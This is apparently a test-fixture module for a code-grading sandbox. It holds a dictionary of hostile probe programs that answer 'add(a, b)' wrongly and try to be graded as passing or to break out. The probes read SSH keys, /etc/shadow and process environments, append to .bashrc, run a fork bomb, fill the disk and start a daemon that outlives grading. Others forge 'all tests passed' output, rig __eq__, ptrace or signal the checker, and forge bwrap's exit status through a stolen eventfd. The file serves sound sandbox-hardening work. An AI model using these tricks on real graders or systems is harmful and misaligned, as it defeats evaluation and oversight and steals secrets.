"""Hostile programs, each an answer to the task ``add(a, b)`` that is WRONG (it returns 0)
and tries to get graded 1 anyway, or to read, write, connect or outlive its grade.

Run in-process by test_hostile.py (as root) and as a script by an ordinary user
(``python hostile_probes.py < spec.json``: grades every probe, prints the grades as JSON).
Placeholders ``@NAME@`` are filled from the spec: HOME, TOKEN, PORT, PROJECT.
"""

from __future__ import annotations

import json
import sys

REIMPORT_CTYPES = """
import sys
for _name in ("ctypes", "_ctypes"):
    sys.modules.pop(_name, None)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
"""

WRONG = "\ndef add(a, b):\n    return 0\n"

PROBES = {
    "read parent env": WRONG
    + """
import os, sys
found = [dict(os.environ)]
for pid in (1, 2, os.getppid()):
    try:
        found.append(open(f"/proc/{pid}/environ", "rb").read())
    except OSError as error:
        found.append(repr(error))
sys.stderr.write(repr(found))
""",
    "read home secrets": WRONG
    + """
import os, sys, glob
for path in ["@HOME@/.ssh/id_rsa", "@HOME@/.config/trinity-workbench/workers.toml",
             "@HOME@/workspace/secret.txt", "@PROJECT@/pyproject.toml",
             os.path.expanduser("~/.ssh/id_rsa"), "/etc/shadow", "/etc/passwd"]:
    try:
        sys.stderr.write(open(path).read())
    except OSError as error:
        sys.stderr.write(repr(error))
sys.stderr.write(repr(glob.glob("/home/*") + glob.glob("/root/*") + glob.glob("@HOME@/*")))
""",
    "write outside": WRONG
    + """
import os, sys
for path in ["/tmp/wb-probe-@TOKEN@", "/dev/shm/wb-probe-@TOKEN@", "@HOME@/wb-probe-@TOKEN@",
             "@PROJECT@/wb-probe-@TOKEN@", "/var/tmp/wb-probe-@TOKEN@"]:
    try:
        open(path, "w").write("pwned")
    except OSError as error:
        sys.stderr.write(repr(error))
try:
    open("@HOME@/.bashrc", "a").write("echo pwned-@TOKEN@\\n")
except OSError as error:
    sys.stderr.write(repr(error))
""",
    "connect to loopback": WRONG
    + """
import socket, sys
for host in ("127.0.0.1", "localhost", "::1"):
    try:
        s = socket.create_connection((host, @PORT@), timeout=2)
        s.sendall(b"pwned-@TOKEN@")
        sys.stderr.write("CONNECTED " + host)
    except OSError as error:
        sys.stderr.write(repr(error))
""",
    "daemon via ctypes, setsid, execve with empty env": REIMPORT_CTYPES
    + WRONG
    + """
import os, time
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c",
            "import time\\nwhile True:\\n"
            "    open('/tmp/wb-daemon-@TOKEN@', 'a').write('alive\\\\n')\\n"
            "    time.sleep(0.1)"], {})
    libc._exit(0)
for _ in range(50):  # until the daemon has written (in the sandbox's own /tmp)
    if os.path.exists("/tmp/wb-daemon-@TOKEN@"):
        sys.stderr.write("daemon running")
        break
    time.sleep(0.05)
""",
    "fork bomb": WRONG
    + """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "fill the disk": WRONG
    + """
import os, sys
n = 0
for folder in ("/tmp", ".", "/w", "/dev/shm"):
    try:
        while True:
            with open(f"{folder}/fill-{n}", "wb") as f:
                for _ in range(8):  # 8 MiB files: under the file size limit
                    f.write(b"x" * 2**20)
            n += 1
    except OSError as error:
        sys.stderr.write(f"{folder}: {n} files, {error!r}\\n")
""",
    "print the verdict and exit 0": WRONG
    + """
import os, sys
print("pass\\nall tests passed", flush=True)
sys.stderr.write("pass\\nall tests passed")
for fd in range(3, 256):
    try:
        os.write(fd, b"pass\\nall tests passed")
    except OSError:
        pass
os._exit(0)
""",
    "find the verdict channel in /proc": WRONG
    + """
import os, sys
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        sys.stderr.write(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write("pass\\nall tests passed")
            except OSError:
                pass
    except OSError:
        pass
""",
    "rigged __eq__": """
class Always:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
def add(a, b):
    return Always()
""",
    "int subclass with rigged methods": """
class Liar(int):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
    def __bool__(self):
        return True
def add(a, b):
    return Liar(0)
""",
    "str and list subclasses": """
class S(str):
    def __eq__(self, other):
        return True
class L(list):
    def __eq__(self, other):
        return True
def add(a, b):
    return L([S("x")])
""",
    "sys.exit(0) during check": """
import sys
def add(a, b):
    sys.exit(0)
""",
    "os._exit(0) during check": """
import os
def add(a, b):
    os._exit(0)
""",
    "exit before check": WRONG + "\nimport os\nos._exit(0)\n",
    "swallow the failure": """
import builtins, sys
sys.excepthook = lambda *args: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
class Quiet(BaseException):
    pass
def add(a, b):
    raise Quiet()
""",
    "raise SystemExit(0) from the function": """
def add(a, b):
    raise SystemExit(0)
""",
    "kill everything it can": REIMPORT_CTYPES
    + WRONG
    + """
import os
for pid in (-1, 1, os.getppid()):
    try:
        os.kill(pid, 9)
    except OSError as error:
        sys.stderr.write(repr(error))
print(libc.kill(-1, 9))
""",
    "trace the checker and read its memory": REIMPORT_CTYPES
    + WRONG
    + """
import os, sys
checker = os.getppid()  # the checker forked this process; it shares the sandbox
cmdline = open(f"/proc/{checker}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
sys.stderr.write(f"target {cmdline}\\n")
for request, name in ((16, "attach"), (0x4206, "seize")):
    result = libc.ptrace(request, checker, None, None)
    sys.stderr.write(f"ptrace {name}: {result} errno {ctypes.get_errno()}\\n")
for name, mode in (("mem", "r+b"), ("environ", "rb"), ("fd/0", "rb"), ("fd", None)):
    try:
        path = f"/proc/{checker}/{name}"
        os.listdir(path) if mode is None else open(path, mode).read(1)
        sys.stderr.write(f"{name}: opened\\n")
    except OSError as error:
        sys.stderr.write(f"{name}: errno {error.errno}\\n")
""",
    "signal the checker": WRONG
    + """
import os, signal, sys, time
sent = 0
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM,
            signal.SIGXCPU, signal.SIGPIPE, signal.SIGCHLD):
    os.kill(os.getppid(), sig)
    sent += 1
sys.stderr.write(f"signalled the checker {sent} times\\n")
def add(a, b):
    os.kill(os.getppid(), signal.SIGINT)  # also while the test runs
    time.sleep(0.05)
    return 0
""",
    "write into the checker's output": WRONG
    + """
import os, sys
wrote = 0
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "a") as out:
                    out.write("FORGED-CHECKER-OUTPUT")
                wrote += 1
            except OSError:
                pass
sys.stderr.write(f"wrote into {wrote} files of other processes\\n")
""",
    "lower the checker's resource limits": REIMPORT_CTYPES
    + WRONG
    + """
import os, sys
# the kernel lets a process of the same user set another's limits (prlimit checks the
# uids, not dumpability): the checker can be made to fail, never to pass
class Limit(ctypes.Structure):
    _fields_ = [("soft", ctypes.c_ulong), ("hard", ctypes.c_ulong)]
for resource, soft in ((1, 0), (7, 3), (9, 1 << 20)):  # FSIZE, NOFILE, AS
    done = libc.prlimit(os.getppid(), resource, ctypes.byref(Limit(soft, soft)), None)
    sys.stderr.write(f"prlimit {resource} on the checker: {done}\\n")
""",
    "take bwrap's eventfd and forge its exit status": REIMPORT_CTYPES
    + WRONG
    + """
import os, struct, sys
# bwrap's process in the sandbox (pid 1) is no checker: it is dumpable, and its eventfd
# tells the bwrap outside the sandbox the exit status to exit with (here 0)
pidfd = libc.syscall(434, 1, 0)  # pidfd_open
took = {}
for fd in range(3, 16):
    got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
    if got >= 0:
        took[got] = os.readlink(f"/proc/self/fd/{got}")
# said first: the forged status ends the sandbox at once, perhaps before a later write
sys.stderr.write(f"took from bwrap: {list(took.values())}\\n")
sys.stderr.flush()
for got, what in took.items():
    if "eventfd" in what:
        os.write(got, struct.pack("Q", 1))
""",
    "plant modules the checker imports in /tmp": WRONG
    + """
import os, sys
# the checker imports traceback (a test failed), its test's modules, and time after the
# candidate starts: none of them from /tmp, its working folder when it forked this one
forged = "import os\\nos.write(2, b'PLANTED-MODULE-RAN')\\nraise SystemExit(0)\\n"
for name in ("traceback", "linecache", "tokenize", "time", "typing", "math", "re"):
    for folder in ("/tmp", "/tmp/__pycache__"):
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/{name}.py", "w") as module:
            module.write(forged)
with open("/tmp/test.py", "w") as source:  # what a traceback would print
    source.write("PLANTED-SOURCE-LINE\\n" * 10)
sys.stderr.write("planted\\n")
""",
    "memory shared with the checker since the fork": WRONG
    + """
import sys
# a MAP_SHARED writable mapping made before the fork (a ctypes callback's code, say) would
# be the checker's memory too
writable = [line for line in open("/proc/self/maps") if line.split()[1][1:4:2] == "ws"]
sys.stderr.write(f"writable shared mappings: {writable}\\n")
""",
    "escape codes": WRONG
    + """
import sys
sys.stderr.write("\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred\\x9b1m\\u202eevil\\r\\x00")
def add(a, b):
    raise ValueError("\\x1b[2Jcleared")
""",
}


def fill(source: str, spec: dict) -> str:
    """The probe's source with its placeholders filled from ``spec``."""
    for name, value in spec.items():
        source = source.replace(f"@{name}@", str(value))
    return source


def grade_probes(names: list[str], spec: dict) -> dict:
    """Grade each named probe as an answer to ``add``: {name: {reward, details}}. Ends the
    spare sandboxes the grades start for the next grade (``end_spare_sandboxes``), so that
    whatever is still alive afterwards was left behind by a probe."""
    from workbench.core.tasks.graders import grade
    from workbench.core.tasks.model import Task
    from workbench.core.tasks.sandbox import end_spare_sandboxes

    task = Task(
        id="add",
        kind="code",
        prompt='def add(a: int, b: int) -> int:\n    """Return a + b."""\n',
        tests={
            "style": "humaneval",
            "entry_point": "add",
            "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n"
            "    assert candidate(-1, 1) == 0\n",
        },
    )
    results = {}
    try:
        for name in names:
            result = grade(task, fill(PROBES[name], spec), timeout_s=5)
            results[name] = {"reward": result.reward, "details": result.details}
    finally:
        end_spare_sandboxes()
    return results


if __name__ == "__main__":
    request = json.load(sys.stdin)
    json.dump(grade_probes(request["names"], request["spec"]), sys.stdout)
